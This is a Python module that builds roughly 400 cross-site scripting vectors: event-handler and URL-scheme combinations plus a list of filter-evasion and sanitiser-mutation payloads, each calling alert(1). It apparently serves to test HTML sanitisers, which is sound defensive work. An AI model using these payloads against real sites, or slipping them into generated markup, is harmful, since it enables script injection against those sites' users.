"""Some 400 ways to run a script from within a text, as attackers write them.

Collected by kind from what browsers and editors are known to have fallen for (the OWASP filter
evasion notes, mutation attacks on sanitisers): each kind is crossed with its tags and spellings.
"""

from itertools import product

CALL = "alert(1)"
HANDLERS = [
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart"),
    *("ontoggle", "onpointerenter", "onbeforeinput", "oncut", "onpaste", "onbegin", "onwheel"),
]
TAGS = [
    *("p", "a", "img", "svg", "body", "div", "table", "td", "ol", "blockquote", "figure", "h2"),
    *("video", "audio", "details", "input", "iframe", "object", "math", "marquee", "isindex"),
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "java&#x09;script:",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
    "javascript&colon;",
    "\x01javascript:",
    "java\u200bscript:",
    "javascript\u200b:",
    "\ufeffjavascript:",
    "\u2028javascript:",
    "java&#x202e;script:",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "view-source:javascript:",
    "feed:javascript:",
    "blob:",
    "file:///",
]
LINKS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a xlink:href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type="submit"></form>',
    '<button formaction="{}">x</button>',
    '<img src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<base href="{}">',
]
WHOLE = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    '<script src="//example.com/x.js"></script>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href='data:,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<link rel=stylesheet href='data:text/css,*{}'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(http://example.com/x.xml#x)'>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>x</x>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<p onclick=alert(1)>x",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0bonclick=alert(1)>x</p>",
    "<p \x00onclick=alert(1)>x</p>",
    "<p onclick\x00=alert(1)>x</p>",
    "<figure data-photo='\"><img src=x onerror=alert(1)>'></figure>",
    "<figure data-photo=\"x' onclick='alert(1)\"></figure>",
    "<figure data-photo='../../admin/'></figure>",
    "<ol start='1 onclick=alert(1)'><li>x</li></ol>",
    "<td colspan='1\" onclick=\"alert(1)'>x</td>",
    "<a href='https://example.com\" onclick=\"alert(1)'>x</a>",
    "<a href='https://example.com' ping='javascript:alert(1)' target=_blank>x</a>",
    "<a href='www.x\" onclick=\"alert(1)'>x</a>",
    "<a id=cookie name=cookie href='x:y'>x</a>",
    "<b <img src=x onerror=alert(1)>>x</b>",
    "<div><h1 onmouseover=alert(1)>x</h1></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "<sc\u202eript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
]


def vectors():
    """Every vector, each once."""
    found = [f"<{tag} {handler}={CALL} src=x>x</{tag}>" for tag, handler in product(TAGS, HANDLERS)]
    found += [link.format(scheme + CALL) for link, scheme in product(LINKS, SCHEMES)]
    return [*dict.fromkeys(found + WHOLE)]
